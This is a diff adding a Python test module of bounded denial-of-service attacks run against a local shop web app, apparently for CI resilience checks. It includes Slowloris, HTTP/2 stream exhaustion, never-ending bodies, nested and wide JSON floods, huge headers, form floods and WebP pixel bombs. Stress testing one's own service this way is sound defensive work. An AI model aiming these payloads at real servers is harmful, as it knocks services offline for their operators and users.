@@ -1,0 +1,275 @@
+"""The attacks. Each sends to a local port for some seconds, bounded in number and bytes, and stops by itself."""
+
+import io
+import itertools
+import socket
+import struct
+import time
+from collections.abc import Callable, Iterator, Mapping
+from contextlib import ExitStack, suppress
+from dataclasses import dataclass
+
+from PIL import Image
+
+
+@dataclass(frozen=True, kw_only=True)
+class Target:
+    """What is attacked, and how hard."""
+
+    port: int
+    good_id: int
+    token: str
+    seconds: float
+    connections: int
+    """How many connections the largest crowd opens."""
+    upload: int
+    """Bytes of the largest body that is sent."""
+
+
+Attack = Callable[[Target], None]
+
+
+def _connect(target: Target) -> socket.socket:
+    return socket.create_connection(("127.0.0.1", target.port), timeout=2)
+
+
+def _head(*lines: str) -> bytes:
+    return "\r\n".join([*lines, "Host: shop.example", "", ""]).encode()
+
+
+def _post(url: str, kind: str, *lines: str) -> bytes:
+    return _head(f"POST {url} HTTP/1.1", f"Content-Type: {kind}", *lines)
+
+
+_JSON = "application/json"
+_FORM = "application/x-www-form-urlencoded"
+_LOGIN = _post("/login/", _JSON, "Content-Length: 1000")
+
+
+def _crowd(target: Target, count: int, first: bytes, drip: bytes = b"") -> None:
+    """Many connections that send `first`, and then one byte or part after the other; closed ones are opened again."""
+    until = time.monotonic() + target.seconds
+    with ExitStack() as stack:
+        held: list[socket.socket] = []
+        while time.monotonic() < until:
+            while len(held) < count and time.monotonic() < until:
+                with suppress(OSError):
+                    connection = stack.enter_context(_connect(target))
+                    connection.sendall(first)
+                    connection.setblocking(False)
+                    held.append(connection)
+            held = [connection for connection in held if _goes_on(connection, drip)]
+            time.sleep(0.2)
+
+
+def _goes_on(connection: socket.socket, drip: bytes) -> bool:
+    try:
+        if drip:
+            connection.send(drip)
+        if connection.recv(65536) == b"":
+            connection.close()
+            return False
+    except BlockingIOError:
+        return True
+    except OSError:
+        connection.close()
+        return False
+    return True
+
+
+def _flood(target: Target, requests: Iterator[bytes]) -> None:
+    """One request after the other on connections of their own, the answer read as far as there is one."""
+    until = time.monotonic() + target.seconds
+    for request in requests:
+        if time.monotonic() > until:
+            return
+        with suppress(OSError), _connect(target) as connection:
+            connection.sendall(request)
+            while connection.recv(65536):
+                pass
+
+
+def _stream(target: Target, head: bytes, parts: Iterator[bytes]) -> None:
+    """One body after the other, each until the server hangs up."""
+    until = time.monotonic() + target.seconds
+    while time.monotonic() < until:
+        with suppress(OSError), _connect(target) as connection:
+            connection.sendall(head)
+            for part in parts:
+                connection.sendall(part)
+                if time.monotonic() > until:
+                    return
+        time.sleep(0.05)
+
+
+def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
+    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload
+
+
+def _literal(name: str, value: str) -> bytes:
+    """A header of HTTP/2, neither indexed nor compressed (RFC 7541, 6.2.2)."""
+    return b"\x00" + bytes((len(name),)) + name.encode() + bytes((len(value),)) + value.encode()
+
+
+def _http_2(streams: int) -> bytes:
+    fields = {":method": "POST", ":scheme": "http", ":path": "/login/", ":authority": "x", "content-length": "100"}
+    block = b"".join(_literal(name, value) for name, value in fields.items())
+    opened = b"".join(_frame(1, 4, 2 * number + 1, block) for number in range(streams))
+    return b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(4, 0, 0, b"") + opened
+
+
+def http_2_streams_without_bodies(target: Target) -> None:
+    """F1."""
+    _crowd(target, 6, _http_2(20))
+
+
+def bodies_that_never_come(target: Target) -> None:
+    """F2."""
+    _crowd(target, 64, _LOGIN)
+
+
+def bodies_byte_by_byte(target: Target) -> None:
+    """F2."""
+    _crowd(target, 64, _LOGIN, drip=b" ")
+
+
+def chunks_without_end(target: Target) -> None:
+    """A body of which nobody said how long it is."""
+    _crowd(target, 32, _post("/login/", _JSON, "Transfer-Encoding: chunked"), drip=b"1\r\n \r\n")
+
+
+def headers_line_by_line(target: Target) -> None:
+    """Slowloris."""
+    _crowd(target, 64, b"GET /healthz HTTP/1.1\r\nHost: x\r\n", drip=b"X-A: b\r\n")
+
+
+def idle_connections(target: Target) -> None:
+    """F2."""
+    _crowd(target, target.connections, b"")
+
+
+def half_requests(target: Target) -> None:
+    """Connections that have said something, and then wait."""
+    _crowd(target, target.connections // 2, b"GET /healthz HT")
+
+
+def answers_that_nobody_reads(target: Target) -> None:
+    """Requests in a row, without a look at what comes back."""
+    _crowd(target, 32, _head("GET /docs/openapi.json HTTP/1.1") * 50)
+
+
+def nested_json(target: Target) -> None:
+    """F3, as deep as it is long."""
+    body = b'{"username":' + b"[" * target.upload
+    _flood(target, itertools.repeat(_post("/login/", _JSON, f"Content-Length: {len(body)}") + body))
+
+
+def wide_json(target: Target) -> None:
+    """F3: lists in a list."""
+    body = b'{"username":[' + b"[]," * (target.upload // 3) + b"[]]}"
+    _flood(target, itertools.repeat(_post("/login/", _JSON, f"Content-Length: {len(body)}") + body))
+
+
+def wide_json_of_allowed_size(target: Target) -> None:
+    """F3, just below the limit of bytes."""
+    body = b'{"username":[' + b"{}," * 21_000 + b"{}]}"
+    head = _post("/login/", _JSON, f"Content-Length: {len(body)}", "Connection: close")
+    _flood(target, itertools.repeat(head + body))
+
+
+def chunked_json_without_end(target: Target) -> None:
+    """F3, without saying how much it will be."""
+    part = b"[]," * 10_000
+    chunk = b"%x\r\n%s\r\n" % (len(part), part)
+    _stream(target, _post("/login/", _JSON, "Transfer-Encoding: chunked"), itertools.repeat(chunk))
+
+
+def many_form_fields(target: Target) -> None:
+    """As many fields as 64 KiB have room for."""
+    body = b"a&" * 32_000
+    head = _post("/login/", _FORM, f"Content-Length: {len(body)}", "Connection: close")
+    _flood(target, itertools.repeat(head + body))
+
+
+def many_parts(target: Target) -> None:
+    """As many parts of a multipart form."""
+    body = b'--b\r\nContent-Disposition: form-data; name="a"\r\n\r\n\r\n' * 1200 + b"--b--\r\n"
+    head = _post("/login/", "multipart/form-data; boundary=b", f"Content-Length: {len(body)}", "Connection: close")
+    _flood(target, itertools.repeat(head + body))
+
+
+def large_username(target: Target) -> None:
+    """One field of a megabyte."""
+    body = b'{"username":"' + b"a" * 1_000_000 + b'","password":"b"}'
+    _flood(target, itertools.repeat(_post("/login/", _JSON, f"Content-Length: {len(body)}") + body))
+
+
+def huge_headers(target: Target) -> None:
+    """A megabyte before the first empty line."""
+    _flood(target, itertools.repeat(_head("GET /healthz HTTP/1.1", *(f"X-{n}: {'a' * 1000}" for n in range(1000)))))
+
+
+def uploads_of_nobody(target: Target) -> None:
+    """Pictures without a login."""
+    part = b'--b\r\nContent-Disposition: form-data; name="pictures"; filename="a.png"\r\n\r\n' + b"a" * target.upload
+    head = _post("/api/good_release/", "multipart/form-data; boundary=b", f"Content-Length: {len(part)}")
+    _flood(target, itertools.repeat(head + part))
+
+
+def false_notifications(target: Target) -> None:
+    """F5: sixty fields of 512 Han characters."""
+    body = "&".join(f"field{n}=" + "%E9%B1%BC" * 100 for n in range(60)).encode()
+    head = _post("/order/notify/", _FORM, f"Content-Length: {len(body)}", "Connection: close")
+    _flood(target, itertools.repeat(head + body))
+
+
+def picture_bombs(target: Target) -> None:
+    """F4: three pictures of 50 megapixels in a few bytes, of a user who is logged in."""
+    written = io.BytesIO()
+    Image.new("RGB", (7000, 7000)).save(written, "WEBP", lossless=True)
+    fields: Mapping[str, str] = {"title": "a", "description": "b", "price": "1", "category": "1", "trade_mode": "7"}
+    parts = [f'--b\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n{value}' for name, value in fields.items()]
+    name = (
+        '--b\r\nContent-Disposition: form-data; name="pictures"; filename="a.webp"\r\nContent-Type: image/webp\r\n\r\n'
+    )
+    body = (
+        "\r\n".join(parts).encode()
+        + b"".join(b"\r\n" + name.encode() + written.getvalue() for _ in range(3))
+        + b"\r\n--b--\r\n"
+    )
+    head = _post(
+        "/api/good_release/",
+        "multipart/form-data; boundary=b",
+        f"Authorization: Bearer {target.token}",
+        f"Content-Length: {len(body)}",
+        "Connection: close",
+    )
+    _crowd(target, 8, head + body)
+
+
+QUICK: tuple[Attack, ...] = (
+    http_2_streams_without_bodies,
+    bodies_that_never_come,
+    bodies_byte_by_byte,
+    idle_connections,
+    wide_json,
+    many_form_fields,
+    chunked_json_without_end,
+)
+"""One of each kind, for CI."""
+
+ALL: tuple[Attack, ...] = (
+    *QUICK,
+    chunks_without_end,
+    headers_line_by_line,
+    half_requests,
+    answers_that_nobody_reads,
+    nested_json,
+    wide_json_of_allowed_size,
+    many_parts,
+    large_username,
+    huge_headers,
+    uploads_of_nobody,
+    false_notifications,
+    picture_bombs,
+)
